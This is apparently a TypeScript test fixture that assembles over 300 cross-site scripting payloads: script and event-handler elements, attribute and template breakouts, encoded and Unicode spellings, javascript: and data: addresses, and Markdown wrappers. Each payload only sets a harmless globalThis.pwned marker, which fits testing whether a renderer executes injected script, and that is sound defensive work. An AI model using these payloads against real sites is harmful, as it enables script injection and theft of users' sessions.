/*
 * Texts that would run a script where a page made markup, a link or code of them. Whatever runs sets
 * `globalThis.pwned`.
 */

const RUN = 'pwned=1';

/** Handlers that need no click, and elements that fetch or run something. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:,${RUN}></SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="javascript:parent.${RUN}">`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<a autofocus tabindex=1 onfocus=${RUN}>x</a>`,
  `<details open ontoggle=${RUN}>`,
  `<dialog open onclose=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video poster=x onloadstart=${RUN} src=x>`,
  `<marquee onstart=${RUN}>`,
  `<style onload=${RUN}></style>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<form action="javascript:${RUN}"><button>x`,
  `<button formaction="javascript:${RUN}">x`,
  `<isindex action="javascript:${RUN}">`,
  `<x style="animation:x" onanimationend=${RUN}>`,
  `<x contenteditable autofocus onfocus=${RUN}>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><img title="</noscript><img src=x onerror=${RUN}>">`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}><!--`,
  `]]><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
];

/** What would leave an attribute, a template or a string. */
const BREAKOUTS = [
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `\` onerror=\`${RUN}`,
  `" style="animation:x" onanimationstart="${RUN}`,
  `';${RUN}//`,
  `\\";${RUN}//`,
  `</script><script>${RUN}</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{"type":"script","props":{"children":"${RUN}"}}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `\u2028${RUN}\u2029`,
];

/** The same in the spellings that decoders, parsers and normalisers undo. */
const SPELLINGS = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${RUN}\\x3e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\ufe64img src=x onerror=${RUN}\ufe65`,
  `<\u200bimg src=x onerror=${RUN}>`,
  `<img src=x onerror\u3000=${RUN}>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

/** Addresses that run something when they are followed. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>opener.${RUN}</script>`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:https://example.org/x`,
  `view-source:javascript:${RUN}`,
  `https://example.org/"onmouseover="${RUN}`,
  `https://example.org/'><img src=x onerror=${RUN}>`,
  `https://javascript:${RUN}@example.org/`,
  `//example.org/<script>${RUN}</script>`,
  `mailto:x@example.org"onclick="${RUN}`,
];

/** Markdown around an address or an element. */
const MARKDOWN: ((inner: string) => string)[] = [
  (inner) => `[text](${inner})`,
  (inner) => `![text](${inner})`,
  (inner) => `<${inner}>`,
  (inner) => `[text]: ${inner}\n[text]`,
  (inner) => `[text](https://example.org "${inner}")`,
  (inner) => `[${inner}](https://example.org)`,
];
const BLOCKS: ((inner: string) => string)[] = [
  (inner) => `\`${inner}\``,
  (inner) => `\`\`\`${inner.replaceAll(/[`\n]/g, '')}\n${inner}\n\`\`\``,
  (inner) => `> ${inner}`,
  (inner) => `1. ${inner}`,
  (inner) => `**${inner}** ~~${inner}~~`,
];

const PLAIN = [...ELEMENTS, ...BREAKOUTS, ...SPELLINGS, ...ADDRESSES];

/** The corpus for the texts of messages: 300 and more. */
export const xssPayloads: readonly string[] = [
  ...new Set([
    ...PLAIN,
    ...ADDRESSES.flatMap((address) => MARKDOWN.map((around) => around(address))),
    ...ELEMENTS.filter((_, i) => i % 3 === 0).flatMap((element) =>
      [...MARKDOWN, ...BLOCKS].map((around) => around(element)),
    ),
  ]),
];

/** Those that fit into a name of 50 characters without control characters. */
export const xssNames: readonly string[] = PLAIN.filter(
  (text) => text.length <= 46 && !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(text),
);
